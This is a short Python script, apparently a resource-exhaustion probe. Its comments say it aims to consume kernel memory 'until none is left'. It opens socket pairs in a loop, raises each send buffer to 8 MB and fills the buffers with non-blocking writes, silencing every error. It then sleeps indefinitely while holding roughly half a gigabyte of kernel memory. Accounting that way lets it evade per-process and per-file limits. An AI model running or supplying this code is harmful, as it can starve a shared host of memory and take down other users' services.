# aim: memory of the kernel's, which is nobody's, until none is left
# pays: time
import contextlib
import socket
import time

held, size = [], 0
with contextlib.suppress(OSError):
    while size < 1 << 29:
        pair = socket.socketpair()
        held.append(pair)
        for end in pair:
            end.setblocking(False)
            with contextlib.suppress(OSError):
                end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 23)
            with contextlib.suppress(BlockingIOError):
                while True:
                    size += end.send(b"x" * (1 << 16))
while size >= 1 << 28:  # four times of what a single file may have
    time.sleep(60)
